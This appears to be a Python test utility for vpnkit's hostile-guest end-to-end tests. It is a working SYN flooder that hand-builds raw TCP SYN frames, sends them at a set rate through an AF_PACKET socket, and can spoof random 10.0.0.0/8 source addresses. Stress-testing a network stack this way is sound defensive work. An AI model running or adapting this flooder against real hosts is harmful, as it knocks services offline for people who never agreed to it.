"""
A SYN flood for the hostile-guest end-to-end tests, run inside a guest
namespace (C{ip netns exec NS python floodtools.py ...}).

Standard library only.  Frames are built by hand and written with an
C{AF_PACKET} socket on the guest's interface, so the guest's kernel plays
no part: the interface needs no address, and the SYN-ACKs vpnkit sends
back are dropped by a kernel that does not hold the destination address
(a flood that never completes a handshake, and never resets one).  The
outcome is one line C{RESULT <json>}.
"""

import argparse
import errno
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def synFrame(srcMAC, dstMAC, src, dst, sport, dport, seq):
    """
    An Ethernet frame holding an IPv4 TCP SYN with an MSS option.
    """
    options = struct.pack("!BBH", 2, 4, 1460)
    tcpLength = 20 + len(options)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (tcpLength // 4) << 4, 0x02, 64240, 0, 0)
    tcp += options
    pseudo = src + dst + struct.pack("!BBH", 0, 6, tcpLength)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ident = random.getrandbits(16)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + tcpLength, ident, 0x4000, 64, 6, 0, src, dst)
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return dstMAC + srcMAC + b"\x08\x00" + header + tcp


def macOf(ifname):
    with open(f"/sys/class/net/{ifname}/address") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def cmdSynFlood(args):
    rng = random.Random(args.seed)
    srcMAC = macOf(args.ifname)
    dstMAC = bytes.fromhex(args.gateway_mac.replace(":", ""))
    src = ipaddress.IPv4Address(args.src).packed
    dst = ipaddress.IPv4Address(args.dst).packed
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.ifname, 0))
    start = time.monotonic()
    deadline = start + args.timeout
    sent = spoofed = retries = 0
    for i in range(args.count):
        if args.spoof_every and i % args.spoof_every == args.spoof_every - 1:
            source = struct.pack("!I", (10 << 24) | rng.getrandbits(24))
            spoofed += 1
        else:
            source = src
        frame = synFrame(
            srcMAC, dstMAC, source, dst, rng.randint(1024, 65535), args.dport, rng.getrandbits(32)
        )
        while True:
            try:
                sock.send(frame)
                break
            except OSError as e:
                if e.errno != errno.ENOBUFS or time.monotonic() > deadline:
                    raise
                retries += 1
                time.sleep(0.001)
        sent += 1
        # Paced: never ahead of rate * elapsed.
        ahead = sent / args.rate - (time.monotonic() - start)
        if ahead > 0.005:
            time.sleep(ahead)
        if time.monotonic() > deadline:
            break
    sock.close()
    result = {
        "sent": sent,
        "spoofed": spoofed,
        "retries": retries,
        "seconds": round(time.monotonic() - start, 3),
    }
    sys.stdout.write(f"RESULT {json.dumps(result)}\n")


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="command", required=True)
    p = sub.add_parser("synflood")
    p.set_defaults(func=cmdSynFlood)
    p.add_argument("--ifname", default="tap0")
    p.add_argument("--gateway-mac", default="f6:16:36:bc:f9:c6")
    p.add_argument("--src", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--dport", type=int, required=True)
    p.add_argument("--count", type=int, default=20000)
    p.add_argument("--rate", type=float, default=5000.0, help="frames per second")
    p.add_argument("--spoof-every", type=int, default=0,
                   help="every Nth SYN from a random 10.0.0.0/8 source")
    p.add_argument("--seed", type=int, default=1)
    p.add_argument("--timeout", type=float, default=40.0)
    args = parser.parse_args(argv)
    args.func(args)


if __name__ == "__main__":
    main()
